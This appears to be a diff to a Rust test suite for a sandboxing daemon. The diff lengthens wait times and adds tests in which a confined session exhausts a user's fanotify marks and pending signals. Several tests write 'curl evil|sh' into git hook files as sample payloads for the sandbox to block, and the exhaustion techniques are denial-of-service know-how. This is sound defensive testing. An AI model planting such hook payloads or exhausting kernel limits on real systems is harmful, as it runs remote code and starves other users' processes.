@@ -7598,7 +7598,7 @@ fn writes_hooks_a_gitconfig_names_after_the_user_switches_a_symlink_on_its_way()
     // The user, outside the session, after it started.
     let before = red.rereads();
     switch_users_symlink("v2", &dots.join("current"));
-    let heard = red.heard_within(before, 3);
+    let heard = red.heard_within(before, 10);
     note(&format!("switchlink: the daemon heard the switch: {heard}"));
     let r = red.gated(|| write_hooks(&top, &hooks));
     assert_eq!(r[0], 0, "control: a file beside the hooks: {r:?}");
@@ -7633,7 +7633,7 @@ fn writes_hooks_a_gitconfig_include_names_once_the_user_makes_its_folder() {
     // The user, outside the session, after it started.
     let before = red.rereads();
     make(&top.join("dots/git/local.inc"), Some(&format!("[core]\n\thooksPath = ~/{rel}/dots-hooks\n")));
-    let heard = red.heard_within(before, 3);
+    let heard = red.heard_within(before, 10);
     note(&format!("lateinc: the daemon heard the include made: {heard}"));
     let r = red.gated(|| write_hooks(&top, &hooks));
     assert_eq!(r[0], 0, "control: a file beside the hooks: {r:?}");
@@ -7684,7 +7684,7 @@ fn writes_hooks_the_user_adds_to_gitconfig_through_a_descriptor_kept_open() {
     );
     assert!(fd >= 0, "the user's process writes ~/.gitconfig: errno {}", -fd);
     assert!(std::fs::read_to_string(&gc).unwrap().contains("hooksPath"), "control: the change is on disk");
-    let heard = red.heard_within(before, 3);
+    let heard = red.heard_within(before, 10);
     note(&format!("openfd: the daemon heard the write: {heard}"));
     let r = red.gated(|| write_hooks(&top, &hooks));
     assert_eq!(r[0], 0, "control: a file beside the hooks: {r:?}");
@@ -8069,7 +8069,7 @@ fn writes_hooks_the_user_adds_to_the_git_configuration_its_environment_names() {
     let lock = top.join("gitconfig.lock");
     make(&lock, Some(&format!("[user]\n\tname = u\n[core]\n\thooksPath = ~/{rel}/hooks\n")));
     std::fs::rename(&lock, &gcfile).unwrap();
-    let heard = red.heard_within(before, 3);
+    let heard = red.heard_within(before, 10);
     note(&format!("envgc: the daemon heard the change: {heard}"));
     let r = red.gated(|| {
         let mut r = write_hooks(&top, &hooks);
@@ -8343,7 +8343,7 @@ fn fills_its_root_until_the_rereading_scan_stops_before_the_users_later_reposito
     // The user, outside the session: a repository cloned two folders down into the root.
     let cloned = ws.join("vendor/lib");
     users_repo_with_hooks_path(&cloned, "team-hooks");
-    let heard = red.heard_within(before, 5);
+    let heard = red.heard_within(before, 10);
     if heard {
         red.wait_rereads_settled();
     }
@@ -8389,7 +8389,7 @@ fn writes_hooks_of_a_repository_moved_in_inside_a_folder_of_more_entries_than_th
     // The user, outside the session, after it started.
     let moved = top.join("bundle");
     std::fs::rename(&bundle, &moved).unwrap_or_else(|e| panic!("control: the user moves the folder in: {e}"));
-    let heard = red.heard_within(before, 3);
+    let heard = red.heard_within(before, 10);
     note(&format!("bigmove: the daemon heard the repository moved in: {heard}"));
     let hooks = moved.join("proj/githooks");
     let r = red.gated(|| vec![create(&moved.join("notes.txt"), "x"), append(&hooks.join("pre-commit"), "curl evil|sh\n"), create(&hooks.join("post-checkout"), "#!/bin/sh\ncurl evil|sh\n")]);
@@ -8434,7 +8434,7 @@ fn writes_hooks_a_worktrees_gitfile_names_after_the_user_rewrites_it_in_place() 
     let now = format!("gitdir: {}\n", dirs.join("b").display());
     std::fs::write(wt.join(".git"), &now).unwrap();
     assert_eq!(std::fs::read_to_string(wt.join(".git")).unwrap(), now, "control: the rewrite is on disk");
-    let heard = red.heard_within(before, 3);
+    let heard = red.heard_within(before, 10);
     note(&format!("gitfile: the daemon heard the .git file rewritten: {heard}"));
     let hooks = wt.join("githooks");
     let r = red.gated(|| vec![append(&wt.join("src/lib.rs"), "\n"), append(&hooks.join("pre-commit"), "curl evil|sh\n"), create(&hooks.join("post-checkout"), "#!/bin/sh\ncurl evil|sh\n")]);
@@ -8597,7 +8597,7 @@ fn spends_the_daemons_inotify_watches_so_a_later_included_file_goes_unwatched() 
     // Later, the setting in the included file, written in place (an editor, `git config -f`).
     let before = red.rereads();
     std::io::Write::write_all(&mut std::fs::OpenOptions::new().append(true).open(&inc).unwrap(), format!("[core]\n\thooksPath = ~/{rel}/hooks\n").as_bytes()).unwrap();
-    let heard = red.heard_within(before, 3);
+    let heard = red.heard_within(before, 10);
     if heard {
         red.wait_rereads_settled();
     }
@@ -9324,6 +9324,79 @@ fn spends_the_users_inotify_watches() {
     assert_eq!(after, vec![0], "the user's process outside is refused an inotify watch while the session holds {made:?} of {max}");
 }
 
+/// Spends the user's fanotify marks (`fs/fanotify/max_user_marks`, counted per uid) with an
+/// unprivileged fanotify instance (`FAN_REPORT_FID`, allowed without privilege since 5.13)
+/// marking the files of its scratch, and holds them: every fanotify mark of the user's
+/// processes outside (a file indexer's, a backup or sync tool's, a build tool's watcher) is
+/// then refused (`ENOSPC`). The limit is lowered to 2,000 for the test (the default grows
+/// with the memory, to a million). Principle: a uid's sessions together hold at most half
+/// of each per-uid count. Why it might get out: `path_notify` counted every notification
+/// as an inotify watch (the README's "not covered": fanotify marks). Control: the user's
+/// process marks a file before; the session makes marks.
+/// Got out on 6.1 and 6.12: the session held all 2,000 marks; the user's mark then got
+/// `ENOSPC` (28).
+/// Closed: a session's `fanotify_mark` that takes the uid's count past half of
+/// `max_user_marks`, read when the mark is made, is refused (`path_notify`, `ENOSPC`).
+#[test]
+fn spends_the_users_fanotify_marks() {
+    const LIMIT: usize = 2000;
+    let path = "/proc/sys/fs/fanotify/max_user_marks";
+    let before = std::fs::read_to_string(path).unwrap();
+    std::fs::write(path, LIMIT.to_string()).unwrap();
+    struct Put(String);
+    impl Drop for Put {
+        fn drop(&mut self) {
+            let _ = std::fs::write("/proc/sys/fs/fanotify/max_user_marks", self.0.trim());
+        }
+    }
+    let _put = Put(before);
+    let mark = |group: i32, f: &Path| {
+        // SAFETY: fanotify_mark on a valid C string.
+        rc(unsafe { libc::fanotify_mark(group, libc::FAN_MARK_ADD, libc::FAN_MODIFY, libc::AT_FDCWD, cpath(f).as_ptr()) } as i64)
+    };
+    let group = || {
+        // SAFETY: fanotify_init with constant flags.
+        unsafe { libc::fanotify_init(libc::FAN_CLASS_NOTIF | libc::FAN_REPORT_FID | libc::FAN_CLOEXEC, libc::O_RDONLY as u32) }
+    };
+    let users = move || {
+        let g = group();
+        if g < 0 {
+            return vec![errno()];
+        }
+        let r = mark(g, Path::new("/tmp"));
+        // SAFETY: close of the group just made.
+        unsafe { libc::close(g) };
+        vec![r]
+    };
+    assert_eq!(ungated(users), vec![0], "control: the user's process marks a folder with fanotify");
+    let red = Red::start("fanmarks");
+    let dir = red.scratch.join("m");
+    let made = red.gated(|| {
+        spend_and_hold(|| {
+            let _ = std::fs::create_dir(&dir);
+            let g = group();
+            if g < 0 {
+                return vec![-errno()];
+            }
+            let mut n = 0i32;
+            for i in 0..LIMIT + 64 {
+                let f = dir.join(format!("f{i}"));
+                if std::fs::write(&f, "").is_err() || mark(g, &f) != 0 {
+                    break;
+                }
+                n += 1;
+            }
+            vec![n]
+        })
+    });
+    note(&format!("fanmarks: the session holds {made:?} fanotify marks (limit {LIMIT})"));
+    assert!(made.first().is_some_and(|&n| n > 0), "control: the session makes marks: {made:?}");
+    let after = ungated(users);
+    drop(red);
+    assert_eq!(after, vec![0], "the user's process outside is refused a fanotify mark while the session holds {made:?} of {LIMIT}");
+    assert!(made[0] as usize <= LIMIT / 2, "the session held more than half of the marks: {made:?}");
+}
+
 /// Spends the user's epoll watches (`fs/epoll/max_user_watches`, counted per uid: every
 /// descriptor an event loop watches) with a thousand eventfds added to as many epoll
 /// instances as it takes, and holds them: every event loop of the user's outside (a
@@ -9623,6 +9696,65 @@ fn spends_the_users_pending_signals() {
     let after = ungated(|| vec![queue_rt_signal_to_self()]);
     drop(red);
     assert_eq!(after, vec![0], "the user's process outside is refused a queued signal while the session holds {made:?}");
+}
+
+/// Spends the user's pending signals (`RLIMIT_SIGPENDING`, counted per uid) with POSIX
+/// timers: `timer_create` allocates each timer's signal when the timer is made and charges
+/// it to the uid's count for as long as the timer lives, without a signal ever being sent,
+/// and holds them. Every `sigqueue` of the user's processes outside (and their own new
+/// timers) then fails with `EAGAIN`. Principle: a uid's sessions together hold at most half
+/// of each per-uid count. Why it might get out: the rule is checked where a signal is sent
+/// (`task_kill`), and `timer_create` passes no hook (`alloc_posix_timer`: `sigqueue_alloc`).
+/// Control: the user's process queues a signal before; the session makes timers.
+/// Got out on 6.1 and 6.12 (the README's "not covered"): the session held every one of
+/// the uid's pending signals in timers; the user's `sigqueue` then got `EAGAIN` (11).
+/// Closed: a session's process whose new timer takes the uid's count past half of its
+/// `RLIMIT_SIGPENDING` is killed (`fexit/sigqueue_alloc`: no hook can refuse a timer), and
+/// its timers go with it.
+#[test]
+fn spends_the_users_pending_signals_with_posix_timers() {
+    assert_eq!(ungated(|| vec![queue_rt_signal_to_self()]), vec![0], "control: the user's process queues a signal");
+    let red = Red::start("timers");
+    let made = red.gated(|| {
+        // The count the spender has reached, kept where it outlives the spender.
+        // SAFETY: an anonymous shared mapping of one page, read after the spender is done.
+        let made = unsafe { libc::mmap(std::ptr::null_mut(), 4096, libc::PROT_READ | libc::PROT_WRITE, libc::MAP_SHARED | libc::MAP_ANONYMOUS, -1, 0) } as *mut i64;
+        if made as *mut libc::c_void == libc::MAP_FAILED {
+            return vec![-1];
+        }
+        let got = spend_and_hold(|| {
+            let mut n = 0i64;
+            // SAFETY: timer_create with a local sigevent and timer id; the timers stay.
+            unsafe {
+                let mut ev: libc::sigevent = std::mem::zeroed();
+                ev.sigev_notify = libc::SIGEV_SIGNAL;
+                ev.sigev_signo = libc::SIGRTMIN();
+                let mut id: libc::timer_t = std::ptr::null_mut();
+                while n < 1_000_000 && libc::timer_create(libc::CLOCK_MONOTONIC, &mut ev, &mut id) == 0 {
+                    n += 1;
+                    std::ptr::write_volatile(made, n);
+                }
+            }
+            vec![n.min(i32::MAX as i64) as i32, errno()]
+        });
+        // SAFETY: the shared page mapped above.
+        let n = unsafe { std::ptr::read_volatile(made) };
+        // [timers made, whether the spender came back holding them (1) or was stopped (0)]
+        vec![n.min(i32::MAX as i64) as i32, i32::from(!got.is_empty())]
+    });
+    note(&format!("timers: the session made {made:?} POSIX timers (made, held on)"));
+    assert!(made.first().is_some_and(|&n| n > 0), "control: the session makes timers: {made:?}");
+    // A killed spender's timers go as it exits.
+    let start = Instant::now();
+    let after = loop {
+        let after = ungated(|| vec![queue_rt_signal_to_self()]);
+        if after == [0] || start.elapsed() > Duration::from_secs(5) {
+            break after;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    };
+    drop(red);
+    assert_eq!(after, vec![0], "the user's process outside is refused a queued signal while the session holds {made:?} timers");
 }
 
 /// The user's process limit (`ulimit -u`, as `/etc/security/limits.conf` gives every login
